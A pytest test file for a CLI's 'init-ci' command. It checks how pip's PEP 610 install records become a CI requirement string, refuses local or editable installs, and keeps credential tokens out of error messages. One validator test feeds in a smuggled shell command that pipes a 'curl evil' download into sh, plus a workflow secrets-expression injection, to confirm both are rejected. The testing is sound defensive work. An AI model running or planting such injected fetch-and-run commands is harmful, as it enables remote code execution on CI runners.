"""How `init-ci` names the pytest-wild a runner installs: read from the distribution's PEP 610
record (`direct_url.json`) as pip writes it for each kind of install, refused where a runner
cannot repeat the install or where the record holds credentials (never shown)."""

import json

import pytest

from pytest_wild import ci
from pytest_wild.cases.case import WildInputError

COMMIT = "0123456789abcdef0123456789abcdef01234567"
TOKEN = "ghp_s3cretT0ken"


class Installed:
    """A distribution as importlib.metadata returns it: a version and, unless installed from
    an index, direct_url.json."""

    def __init__(self, record: dict | None, version: str = "0.1.0") -> None:
        self.version = version
        self.record = record

    def read_text(self, name: str) -> str | None:
        assert name == "direct_url.json"
        return None if self.record is None else json.dumps(self.record)


def installed(monkeypatch, record: dict | None) -> None:
    monkeypatch.setattr(ci, "distribution", lambda name: Installed(record))


def vcs(url: str) -> dict:
    return {"url": url, "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"}}


@pytest.mark.parametrize("record, expected", [
    (None, "pytest-wild==0.1.0"),
    (vcs("https://github.com/wild/pytest-wild.git"), f"pytest-wild @ git+https://github.com/wild/pytest-wild.git@{COMMIT}"),
    (vcs("ssh://git@github.com/wild/pytest-wild.git"), f"pytest-wild @ git+ssh://git@github.com/wild/pytest-wild.git@{COMMIT}"),
    ({"url": "https://example.org/pytest_wild-0.1.0-py3-none-any.whl", "archive_info": {"hash": "sha256=ab12"}},
     "pytest-wild @ https://example.org/pytest_wild-0.1.0-py3-none-any.whl#sha256=ab12"),
    ({**vcs("https://github.com/wild/tools.git"), "subdirectory": "pytest-wild"},
     f"pytest-wild @ git+https://github.com/wild/tools.git@{COMMIT}#subdirectory=pytest-wild"),
], ids=["index", "git-https", "git-ssh", "https-archive", "git-subdirectory"])
def test_a_repeatable_install_becomes_its_requirement(monkeypatch, record, expected):
    installed(monkeypatch, record)
    assert ci.installed_requirement() == (expected, None)
    ci.check_requirement(expected)  # what init-ci found passes its own check


def test_a_git_repository_on_this_machine_is_named_with_a_note_that_only_it_can_reach_it(monkeypatch):
    installed(monkeypatch, vcs("file:///home/me/pytest-wild"))
    requirement, note = ci.installed_requirement()
    assert requirement == f"pytest-wild @ git+file:///home/me/pytest-wild@{COMMIT}"
    assert note == ("pytest-wild comes from a repository on this machine (file:///home/me/pytest-wild), which a "
                    "GitHub-hosted runner cannot reach; for one, pass --requirement SPEC")


@pytest.mark.parametrize("record, message", [
    ({"url": "file:///home/me/pytest-wild", "dir_info": {"editable": True}},
     "pytest-wild is installed editable from file:///home/me/pytest-wild, which a runner cannot repeat; pass "
     "--requirement SPEC naming a pytest-wild a runner can install (e.g. pytest-wild==VERSION)"),
    ({"url": "file:///home/me/pytest-wild", "dir_info": {}},
     "pytest-wild is installed from file:///home/me/pytest-wild, a local path a runner cannot reach; pass "
     "--requirement SPEC naming a pytest-wild a runner can install (e.g. pytest-wild==VERSION)"),
    ({"url": "file:///tmp/pytest_wild-0.1.0.tar.gz", "archive_info": {}},
     "pytest-wild is installed from file:///tmp/pytest_wild-0.1.0.tar.gz, a local path a runner cannot reach; pass "
     "--requirement SPEC naming a pytest-wild a runner can install (e.g. pytest-wild==VERSION)"),
], ids=["editable", "local-directory", "local-archive"])
def test_an_install_a_runner_cannot_repeat_is_refused_naming_the_option(monkeypatch, record, message):
    installed(monkeypatch, record)
    with pytest.raises(WildInputError) as refused:
        ci.installed_requirement()
    assert str(refused.value) == message


@pytest.mark.parametrize("url", [f"https://{TOKEN}@github.com/wild/pytest-wild.git",
                                 f"https://me:{TOKEN}@github.com/wild/pytest-wild.git",
                                 f"ssh://git:{TOKEN}@github.com/wild/pytest-wild.git"])
def test_credentials_in_the_record_are_refused_and_never_shown(monkeypatch, url):
    installed(monkeypatch, vcs(url))
    with pytest.raises(WildInputError) as refused:
        ci.installed_requirement()
    assert str(refused.value).startswith("pytest-wild was installed from a URL with credentials in it, which are "
                                         "never written into a workflow; pass --requirement SPEC")
    assert TOKEN not in str(refused.value)


@pytest.mark.parametrize("spec, message", [
    (f"pytest-wild @ git+https://{TOKEN}@github.com/wild/pytest-wild.git@main",
     "--requirement: its URL holds credentials, which are never written into a workflow; keep them in the runner's "
     "secrets"),
    ("pytest-wild==0.1.0'; curl evil | sh; '", "--requirement: \"pytest-wild==0.1.0'; curl evil | sh; '\": quotes, "
     "backslashes, $ and ` are not allowed"),
    ("pytest-wild==${{ secrets.X }}", "--requirement: 'pytest-wild==${{ secrets.X }}': quotes, backslashes, $ and ` "
     "are not allowed"),
    ("pytest-wild===", "--requirement: 'pytest-wild===' is not a pip requirement: "),
    ("torch==2.13.0", "--requirement: names torch, not pytest-wild"),
], ids=["credentials", "quote", "expression", "invalid", "another-package"])
def test_a_bad_requirement_is_refused_in_one_line(spec, message):
    with pytest.raises(WildInputError) as refused:
        ci.check_requirement(spec)
    assert str(refused.value).startswith(message) and "\n" not in str(refused.value)
    assert TOKEN not in str(refused.value)
